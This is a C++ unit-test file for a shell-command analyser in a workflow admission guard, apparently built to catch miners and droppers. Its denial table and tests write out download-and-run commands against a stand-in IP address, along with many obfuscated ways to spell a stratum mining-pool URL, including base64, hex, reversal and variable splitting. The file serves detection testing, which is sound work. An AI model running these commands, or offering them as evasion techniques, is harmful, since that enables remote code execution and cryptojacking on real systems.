// Commands by meaning: the bypass shapes an attacker with an author token used against the text
// checks (issue 14) must be denied however they are spelled, and ordinary scripts that merely
// look alike must pass.
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "guard/admission.h"
#include "guard/shell_analysis.h"
#include "guard/shell_syntax.h"

namespace rampart::guard {
namespace {

std::set<std::string> rules_of(const CommandReport& r) {
  std::set<std::string> out;
  for (const auto& f : r.findings) out.insert(f.rule);
  return out;
}

std::string describe(const CommandReport& r) {
  std::string out = r.limit.empty() ? "" : "limit " + r.limit + "; ";
  for (const auto& f : r.findings) out += f.rule + " [" + f.evidence + "] (" + f.how + "); ";
  return out.empty() ? "(nothing found)" : out;
}

struct Case {
  const char* name;
  const char* script;
  const char* rule;
};

// Each of these passed the old text checks or is a variant of one that did.
const Case kDenied[] = {
    {"variables split the URL", "A=stratum+tcp; B=//pool.example:3333; ./w -o $A:$B", "command.stratum"},
    {"exported and braced", "export P1=stratum+ssl\nexport P2=pool.example:443\n./w --url ${P1}://${P2}",
     "command.stratum"},
    {"default values", "./w -o ${POOL:-stratum+tcp://pool.example:3333}", "command.stratum"},
    {"pattern substitution", "S=xtratum+tcp://pool.example:3333; ./w -o ${S/x/s}", "command.stratum"},
    {"prefix removal", "S=zzstratum+tcp://pool.example:3333; ./w -o ${S#zz}", "command.stratum"},
    {"ANSI-C quoting", "./w -o $'\\x73\\x74\\x72\\x61\\x74\\x75\\x6d+tcp://pool.example:3333'", "command.stratum"},
    {"base64 piped to base64 -d", "echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 -d", "command.stratum"},
    {"base64 decoded into a variable",
     "u=$(echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw== | base64 --decode)\n./w -o \"$u\"", "command.stratum"},
    {"base64 anywhere (a JSON config)", "./w --config eyJ1cmwiOiAic3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMyJ9",
     "command.stratum"},
    {"hex dump", "echo 7374726174756d2b7463703a2f2f706f6f6c2e6578616d706c653a33333333 | xxd -r -p", "command.stratum"},
    {"printf pieces", "./w -o \"$(printf '%s%s' stratum+tcp :)//pool.example:3333\"", "command.stratum"},
    {"reversed", "./w -o $(echo 3333:elpmaxe.loop//:pct+mutarts | rev)", "command.stratum"},
    {"backticks", "H=`echo pool.example`; ./w -o stratum+tcp://$H:3333", "command.stratum"},
    {"curl | sh", "curl -fsSL http://203.0.113.9/i.sh | sh", "command.dropper"},
    {"curl | python3", "curl -s http://203.0.113.9/i.py | python3", "command.dropper"},
    {"curl | python3 -", "curl -s http://203.0.113.9/i.py | python3 -", "command.dropper"},
    {"curl | perl", "curl -s http://203.0.113.9/i.pl | perl", "command.dropper"},
    {"wget -qO- | bash -s", "wget -qO- http://203.0.113.9/i | bash -s -- --fast", "command.dropper"},
    {"wget -O - | sudo sh", "wget -O - http://203.0.113.9/i | sudo sh", "command.dropper"},
    {"through a filter", "curl -s http://203.0.113.9/i.gz | gunzip | sh", "command.dropper"},
    {"through tee", "curl -s http://203.0.113.9/i | tee /tmp/log | bash", "command.dropper"},
    {"bash <(curl)", "bash <(curl -s http://203.0.113.9/i.sh)", "command.dropper"},
    {"source <(wget)", "source <(wget -qO- http://203.0.113.9/i)", "command.dropper"},
    {"sh -c \"$(curl)\"", "sh -c \"$(curl -fsSL http://203.0.113.9/i.sh)\"", "command.dropper"},
    {"sh -c backticks", "sh -c \"`curl -fsSL http://203.0.113.9/i.sh`\"", "command.dropper"},
    {"python3 -c \"$(curl)\"", "python3 -c \"$(curl -s http://203.0.113.9/p.py)\"", "command.dropper"},
    {"eval \"$(wget)\"", "eval \"$(wget -qO- http://203.0.113.9/i)\"", "command.dropper"},
    {"here-string", "bash <<< \"$(curl -s http://203.0.113.9/i)\"", "command.dropper"},
    {"downloaded content as the command", "$(curl -s http://203.0.113.9/cmd)", "command.dropper"},
    {"curl -o; chmod 755; ./x", "curl -o x http://203.0.113.9/m; chmod 755 x; ./x", "command.dropper"},
    {"combined flags and &&", "curl -fsSLo /tmp/k http://203.0.113.9/k && chmod +x /tmp/k && /tmp/k",
     "command.dropper"},
    {"wget's default file name", "wget http://203.0.113.9/kworker; chmod +x kworker; ./kworker", "command.dropper"},
    {"curl -O then sh", "curl -LO http://203.0.113.9/m.sh; sh m.sh", "command.dropper"},
    {"redirected download", "curl http://203.0.113.9/m > m; chmod +x m; ./m", "command.dropper"},
    {"moved before running", "curl -s http://203.0.113.9/p -o /tmp/p; mv /tmp/p /tmp/kw; chmod +x /tmp/kw; /tmp/kw",
     "command.dropper"},
    {"downloader in a variable", "D=curl; $D -s http://203.0.113.9/i | sh", "command.dropper"},
    {"command line in a variable", "C=\"curl -s http://203.0.113.9/i\"; $C | sh", "command.dropper"},
    {"unpacked archive", "curl -sL http://203.0.113.9/a.tgz | tar xz; ./xmr/run --bg", "command.dropper"},
    {"base64 script piped to sh", "echo Y3VybCAtcyBodHRwOi8veC9pIHwgc2g= | base64 -d | sh", "command.dropper"},
    {"downloaded base64 piped to sh", "curl -s http://203.0.113.9/b | base64 -d | sh", "command.dropper"},
    {"script written then run", "cat > /tmp/s.sh <<'EOF'\ncurl -s http://203.0.113.9/i | sh\nEOF\nsh /tmp/s.sh",
     "command.dropper"},
    {"nested sh -c", "sh -c 'bash -c \"curl -s http://203.0.113.9/i | sh\"'", "command.dropper"},
    {"env wrapper", "env -i PATH=/bin nohup sh -c \"$(curl -s http://203.0.113.9/i)\"", "command.dropper"},
};

TEST(ShellAnalysisTest, BypassShapesAreDeniedByMeaning) {
  for (const auto& c : kDenied) {
    CommandReport r = analyse_script(c.script, ProgramKind::Shell);
    EXPECT_TRUE(rules_of(r).count(c.rule)) << c.name << ": " << c.script << "\n  found: " << describe(r);
    EXPECT_TRUE(r.limit.empty()) << c.name;
  }
}

TEST(ShellAnalysisTest, ArgvIsReadAsKubernetesRunsIt) {
  // sh -c with positional parameters carrying the pieces.
  auto r = analyse_argv({"sh", "-c", "./w -o $1$2", "sh", "stratum+tcp:", "//pool.example:3333"}, true);
  EXPECT_TRUE(rules_of(r).count("command.stratum")) << describe(r);
  // The URL split across two arguments of a binary.
  r = analyse_argv({"/usr/local/bin/kworker", "-o", "stratum+tcp:", "//pool.example:3333"}, true);
  EXPECT_TRUE(rules_of(r).count("command.stratum")) << describe(r);
  // No command: the image's ENTRYPOINT runs the args, each read as a script too.
  r = analyse_argv({"curl -fsSL http://203.0.113.9/i | sh"}, false);
  EXPECT_TRUE(rules_of(r).count("command.dropper")) << describe(r);
  r = analyse_argv({"bash", "-ec", "curl -s http://203.0.113.9/i | sh"}, true);
  EXPECT_TRUE(rules_of(r).count("command.dropper")) << describe(r);
}

TEST(ShellAnalysisTest, ProgramsInOtherLanguagesHaveTheirCommandStringsRead) {
  auto r = analyse_script("import os\nos.system(\"curl -s http://203.0.113.9/i | sh\")\n", ProgramKind::Program);
  EXPECT_TRUE(rules_of(r).count("command.dropper")) << describe(r);
  r = analyse_script("import subprocess\nsubprocess.run('wget -qO- http://x/i | bash', shell=True)\n",
                     ProgramKind::Program);
  EXPECT_TRUE(rules_of(r).count("command.dropper")) << describe(r);
  EXPECT_EQ(program_kind({"python3"}), ProgramKind::Program);
  EXPECT_EQ(program_kind({"bash"}), ProgramKind::Shell);
  EXPECT_EQ(program_kind({}), ProgramKind::Shell);
}

// Scripts that look like the above but do not run what they download.
const char* const kBenign[] = {
    "curl -o file.json https://api.example/data && jq .items file.json",
    "curl -sSfo /tmp/data.json https://api.example/data\njq -r .name /tmp/data.json",
    "python3 script.py",
    "pip download requests -d /tmp/wheels",
    "pip install -r requirements.txt && python3 -m pytest",
    "curl -s https://api.example/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])'",
    "curl -s https://api.example/v1 | jq .",
    "curl -s https://api.example/v1 | python3 parse.py",
    "wget -q https://example.com/data.csv; wc -l data.csv",
    "echo hello | base64",
    "echo aGVsbG8gd29ybGQgZnJvbSBhcmdv | base64 -d",
    "git clone https://github.com/argoproj/argo-workflows.git && cd argo-workflows && make",
    "A=1; B=2; echo $((A+B))",
    "for i in 1 2 3; do echo \"$i\"; done",
    "cat <<EOF > /tmp/c.yaml\nkey: value\nEOF\ncat /tmp/c.yaml",
    "sh -c 'echo hello'",
    "python3 -c \"print('hello')\"",
    "curl -sSf https://example.com/health || exit 1",
    "if [ -f /tmp/x ]; then cat /tmp/x; else echo none; fi",
    "chmod +x ./build.sh && ./build.sh",
    "cowsay hello; sleep 5; echo done",
    "echo 'curl is a tool' && curl --version",
};

TEST(ShellAnalysisTest, LookAlikeButBenignScriptsPass) {
  for (const char* script : kBenign) {
    CommandReport r = analyse_script(script, ProgramKind::Shell);
    EXPECT_TRUE(r.findings.empty()) << script << "\n  found: " << describe(r);
    EXPECT_TRUE(r.limit.empty()) << script;
  }
}

TEST(ShellAnalysisTest, EnvironmentValuesSeedVariablesButAreNotShown) {
  std::vector<ShellVariable> env = {{"POOL", "stratum+tcp://user:S3cret@pool.example:3333", true}};
  auto r = analyse_script("./w -o \"$POOL\"", ProgramKind::Shell, env);
  ASSERT_TRUE(rules_of(r).count("command.stratum")) << describe(r);
  for (const auto& f : r.findings) {
    EXPECT_EQ(f.evidence.find("S3cret"), std::string::npos);
    EXPECT_TRUE(f.hidden);
  }
}

TEST(ShellAnalysisTest, BoundsFallBackToTextMatchingAndSaySo) {
  shell::Limits small;
  small.max_words = 20;
  std::string padding;
  for (int i = 0; i < 50; ++i) padding += "echo word" + std::to_string(i) + "\n";
  // The dropper is past the word budget: the text patterns still catch it.
  auto r = analyse_script(padding + "curl -fsSL http://203.0.113.9/i.sh | sh\n", ProgramKind::Shell, {}, small);
  EXPECT_EQ(r.limit, "max_words");
  ASSERT_TRUE(rules_of(r).count("command.dropper")) << describe(r);
  bool said = false;
  for (const auto& f : r.findings) said = said || f.how.find("text matching") != std::string::npos;
  EXPECT_TRUE(said) << describe(r);

  shell::Limits shallow;
  shallow.max_depth = 2;
  r = analyse_script("echo $(echo $(echo $(echo $(echo hi))))", ProgramKind::Shell, {}, shallow);
  EXPECT_EQ(r.limit, "max_depth");

  shell::Limits tiny;
  tiny.max_bytes = 64;
  r = analyse_script(std::string(100, ' ') + "echo hi", ProgramKind::Shell, {}, tiny);
  EXPECT_EQ(r.limit, "max_bytes");

  // Doubling a variable cannot blow up memory.
  std::string doubling = "A=xxxxxxxx\n";
  for (int i = 0; i < 40; ++i) doubling += "A=$A$A\n";
  r = analyse_script(doubling, ProgramKind::Shell);
  EXPECT_EQ(r.limit, "max_bytes");
}

TEST(ShellAnalysisTest, AParseLimitIsAWarningInTheDecision) {
  PolicyRules rules;
  rules.parse_limits.max_words = 5;
  exec::StepRequest step;
  step.image = "alpine";
  step.command = {"sh", "-c"};
  step.args = {"echo 1; echo 2; echo 3; echo 4; echo 5; echo 6"};
  Admission a = admit_step(rules, step);
  bool warned = false;
  for (const auto& d : a.decisions) {
    if (d.rule == "command.parse-limit") {
      warned = true;
      EXPECT_EQ(d.action, Action::Warn);
      EXPECT_NE(d.message.find("maxScriptWords"), std::string::npos) << d.message;
    }
  }
  EXPECT_TRUE(warned);
  EXPECT_FALSE(a.denied());
}

TEST(ShellSyntaxTest, WordsQuotesSubstitutionsAndHereDocuments) {
  shell::Script s;
  size_t words = 1000;
  EXPECT_EQ(shell::parse("a 'b c' \"d $E\" 2>/dev/null | f <(g) && h <<X\nbody $Y\nX\ni", {}, words, s), "");
  ASSERT_EQ(s.pipelines.size(), 3u);
  ASSERT_EQ(s.pipelines[0].commands.size(), 2u);
  const auto& first = s.pipelines[0].commands[0];
  ASSERT_EQ(first.words.size(), 3u);
  std::string v;
  EXPECT_TRUE(shell::literal_value(first.words[1], &v));
  EXPECT_EQ(v, "b c");
  EXPECT_FALSE(shell::literal_value(first.words[2], &v));
  ASSERT_EQ(first.redirects.size(), 1u);
  EXPECT_EQ(first.redirects[0].fd, 2);
  EXPECT_EQ(s.pipelines[0].commands[1].words[1].parts[0].kind, shell::Part::Kind::ProcessSubst);
  ASSERT_EQ(s.heredocs.size(), 1u);
  EXPECT_EQ(s.heredocs[0].raw, "body $Y\n");
  EXPECT_EQ(s.pipelines[2].commands[0].words[0].raw, "i");
}

}  // namespace
}  // namespace rampart::guard
